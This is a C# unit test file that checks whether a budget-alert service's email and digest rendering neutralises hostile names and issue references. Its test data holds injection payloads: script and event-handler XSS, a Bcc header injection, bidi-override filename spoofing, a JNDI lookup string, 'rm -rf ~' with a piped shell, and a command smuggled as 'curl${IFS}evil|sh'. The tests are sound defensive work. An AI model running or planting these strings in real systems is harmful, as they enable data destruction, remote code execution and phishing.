using System.Text;
using Ledger.Alerts;
using Ledger.Service.Mail;

namespace Ledger.Service.Tests.Mail;

/// <summary>Names come from agents, providers and keys. None of them says more in a mail than its letters.</summary>
public sealed class HostileNames
{
    private static readonly string[] names =
    [
        "</bdi><script>alert(1)</script>", "<img src=http://evil.example/x.png>", "\" onmouseover=\"alert(1)", "a\r\nBcc: everybody@evil.example\r\n\r\nHello", "evil\u202Egpj.exe\u202C",
        "\u2066\u2067hidden\u2069", "=HYPERLINK(\"http://evil.example\",\"look\")", "@SUM(A1)", "${jndi:ldap://evil}", "{{7*7}}", "a\u0000b\u0007c\u001b[31m", "line\u2028break\u2029here", "שלום עולם",
        "\ud83d\ude00 \ud83d", new string('W', 5_000), "javascript:alert(1)", "`rm -rf ~`; echo $(id) | sh",
    ];

    public static TheoryData<string> All => [.. names.Select(Convert)];

    // Test runners don't carry controls and half surrogates; base 64 of UTF-16 does.
    private static string Convert(string name) => System.Convert.ToBase64String(Encoding.Unicode.GetBytes(name));

    [Theory]
    [MemberData(nameof(All))]
    public async Task a_name_is_only_a_name_in_an_alert(string encoded)
    {
        var name = Encoding.Unicode.GetString(System.Convert.FromBase64String(encoded));
        var circumstances = Samples.Circumstances with
        {
            Drivers = [.. Samples.Circumstances.Drivers.Select(d => d with { Name = name, Value = name })],
            SharedKeys = [new(name, name, [name, name], Samples.Dollars("2.55"))],
            Runway = Samples.Runway with { AccountName = name, Why = name },
            Action = new("stop-unit", $"Stop {name}.", Samples.Dollars("1.00"), "day", $"ledger key assign {name} --agent {name}"),
        };
        var news = Samples.News(
            Samples.Crossed(name: name) with { Circumstances = circumstances },
            Samples.Short() with { Circumstances = circumstances },
            Samples.Anomalous with { Name = name, Circumstances = circumstances },
            Samples.Stale with { AccountName = name, Reason = name },
            Samples.LeftOpen with { Title = name, Ref = name, Agents = [name] },
            Samples.Shared with { Shared = circumstances.SharedKeys[0] },
            Samples.Restated with { AccountName = name },
            Samples.Imported with { AccountName = name, Circumstances = circumstances, Passed = [new("b", name, "month", Samples.Crossed().Threshold, Samples.Dollars("1"), Samples.Dollars("2"))] }) with
        {
            Team = name,
            Recoveries = [new BudgetRecovered("a-1", "b-1", name, Samples.Crossed().Threshold, Samples.Dollars("1"), Samples.Dollars("2"), Samples.Now), new SourceRecovered("a-2", "x", name, Samples.Now)],
        };
        Harmless(await AlertMail.Render(news));
        foreach (var notice in news.Notices) OneLine(Headline.Of(notice.Alert, "UTC", Samples.Now));
        foreach (var recovery in news.Recoveries) OneLine(Headline.Of(recovery));
    }

    [Theory]
    [MemberData(nameof(All))]
    public async Task a_name_is_only_a_name_in_a_digest(string encoded)
    {
        var name = Encoding.Unicode.GetString(System.Convert.FromBase64String(encoded));
        var digest = Samples.BadWeek with
        {
            Team = name,
            Zone = name,
            Runways = [Samples.Runway with { AccountName = name }],
            Budgets = [new(name, name, name, Samples.November, Samples.Dollars("1"), null, new(null, null, null, null, null, name), name)],
            Missions = [new(name, name, name, name, Samples.Dollars("1"), null, null, null), new(name, name, "http://user@evil.example/", "open", Samples.Dollars("1"), null, null, null)],
            ByAgent = [new(name, Samples.Dollars("1"), null)],
            ByModel = [new(name, Samples.Dollars("1"), null)],
            Fix = new("x", name, Samples.Dollars("1"), "week", name),
            Alerts = [new(name, Samples.Now, Severity.Warning, name, true)],
            Moved = [new(name, Samples.Dollars("1"), Samples.Dollars("2"))],
            Gaps = [new(name, Samples.Now, null, name)],
            Recommendations = [new("x", name, Samples.Dollars("1"), "week", name)],
            Reproduce = name,
            Chain = name,
        };
        Harmless(await DigestMail.Render(digest));
        var markdown = DigestMail.Markdown(digest);
        Assert.DoesNotContain("<script", markdown.Replace("\\<", "", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.DoesNotContain("<img", markdown.Replace("\\<", "", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://forge.example.org/o/r/issues/3", true)]
    [InlineData("http://forge.example.org/o/r/issues/3", true)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("data:text/html,x", false)]
    [InlineData("https://user:pw@evil.example/", false)]
    [InlineData("https://fоrge.example.org/", false)]
    [InlineData("o/r#3", false)]
    [InlineData("file:///etc/passwd", false)]
    public async Task only_a_reference_that_leads_where_it_says_is_a_link(string reference, bool link)
    {
        var html = (await DigestMail.Render(Samples.GoodWeek with { Missions = [Samples.GoodWeek.Missions[0] with { Ref = reference }] })).Html;
        Assert.Equal(link, html.Contains("href=", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("trentuna/token-monitor#4", "https://forge.example.org/trentuna/token-monitor/issues/4")]
    [InlineData("a.b/c_d-e#0012", "https://forge.example.org/a.b/c_d-e/issues/0012")]
    [InlineData("o?x=1/r#3", "https://forge.example.org/o%3Fx%3D1/r/issues/3")]
    [InlineData("o/%2e%2e#3", "https://forge.example.org/o/%252e%252e/issues/3")]
    [InlineData("user:pw@evil.example/r#3", "https://forge.example.org/user%3Apw%40evil.example/r/issues/3")]
    [InlineData("o\"onmouseover=alert(1)/r#3", "https://forge.example.org/o%22onmouseover%3Dalert%281%29/r/issues/3")]
    [InlineData("../r#3", null)]
    [InlineData("o/..#3", null)]
    [InlineData("o/r", null)]
    [InlineData("o/r#", null)]
    [InlineData("o/r#3#4", null)]
    [InlineData("o/r#x", null)]
    [InlineData("o/r#٣", null)]
    [InlineData("o/r/s#3", null)]
    [InlineData("/r#3", null)]
    [InlineData("o o/r#3", null)]
    [InlineData("javascript:alert(1)", null)]
    public async Task a_reference_to_an_issue_leads_below_the_forge_and_nowhere_else(string reference, string? link)
    {
        var digest = Samples.GoodWeek with { Missions = [Samples.GoodWeek.Missions[0] with { Ref = reference }] };
        var forge = new Uri("https://forge.example.org/");
        var html = (await DigestMail.Render(digest, forge)).Html;
        Assert.Equal(link is not null, html.Contains("href=", StringComparison.Ordinal));
        if (link is null) return;
        Assert.Contains($"href=\"{link}\"", html, StringComparison.Ordinal);
        Assert.Contains($"](<{link}>)", DigestMail.Markdown(digest, forge), StringComparison.Ordinal);
        Assert.DoesNotContain("href=", (await DigestMail.Render(digest)).Html, StringComparison.Ordinal);
        var alert = await AlertMail.Render(Samples.News(Samples.LeftOpen with { Ref = reference }) with { Forge = new("https://forge.example.org") });
        Assert.Contains($"href=\"{link}\"", alert.Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task a_command_that_a_shell_would_read_otherwise_is_not_shown()
    {
        var digest = Samples.GoodWeek with { Fix = new("assign-key", "Say who owns it.", Samples.Dollars("1"), "week", "ledger key assign x;curl${IFS}evil|sh --agent NAME") };
        var mail = await DigestMail.Render(digest);
        Assert.DoesNotContain("curl", mail.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("curl", mail.Html, StringComparison.Ordinal);
        Assert.Contains("Say who owns it.", mail.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task names_written_from_right_to_left_keep_to_themselves()
    {
        var mail = await AlertMail.Render(Samples.News(Samples.Stale with { AccountName = "שלום" }));
        Assert.Contains("\u2068שלום\u2069", mail.Text, StringComparison.Ordinal);
        Assert.DoesNotContain('\u2068', mail.Subject);
        var digest = await DigestMail.Render(Samples.GoodWeek with { ByAgent = [new("שלום", Samples.Dollars("1"), null)] });
        Assert.Contains("<bdi", digest.Html, StringComparison.Ordinal);
    }

    private static void Harmless(MailContent mail)
    {
        OneLine(mail.Subject);
        Assert.True(mail.Subject.Length <= 200, mail.Subject);
        foreach (var rune in mail.Text.EnumerateRunes())
            Assert.False(rune.Value is not ('\n' or 0x2068 or 0x2069) && Rune.GetUnicodeCategory(rune) is System.Globalization.UnicodeCategory.Control or System.Globalization.UnicodeCategory.LineSeparator or System.Globalization.UnicodeCategory.ParagraphSeparator || (rune.Value is >= 0x202A and <= 0x202E or 0x2066 or 0x2067), $"U+{rune.Value:X4}");
        foreach (var line in mail.Text.Split('\n'))
            Assert.True(SafeText.Width(line) <= 80 || line.Contains("://", StringComparison.Ordinal) || line.StartsWith("    ", StringComparison.Ordinal), line);
        // A mail of ours has no header after its body begins, no script, no picture, no handler, nothing to fetch.
        Assert.DoesNotContain("\nBcc:", mail.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", mail.Html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", mail.Html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(" onmouseover=\"", mail.Html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("src=", mail.Html.Replace("&lt;img src=", "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("url(", mail.Html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href=\"javascript", mail.Html, StringComparison.OrdinalIgnoreCase);
        Assert.True(mail.Html.Length < 200_000 && mail.Text.Length < 60_000, $"{mail.Html.Length} and {mail.Text.Length}");
        Well(mail.Html);
    }

    private static void OneLine(string line)
    {
        Assert.DoesNotContain(line, c => char.IsControl(c) || c is '\u2028' or '\u2029' or (>= '\u202A' and <= '\u202E') or '\u2066' or '\u2067');
        Assert.NotEmpty(line);
    }

    /// <summary>Every element that a mail opens, it closes: a name can't end one.</summary>
    private static void Well(string html)
    {
        var open = new Stack<string>();
        foreach (System.Text.RegularExpressions.Match tag in System.Text.RegularExpressions.Regex.Matches(html, "<(/?)([a-z][a-z0-9]*)[^<>]*>"))
        {
            var name = tag.Groups[2].Value;
            if (name is "meta" or "br") continue;
            if (tag.Groups[1].Value.Length == 0) open.Push(name);
            else Assert.Equal(open.Pop(), name);
        }
        Assert.Empty(open);
    }
}
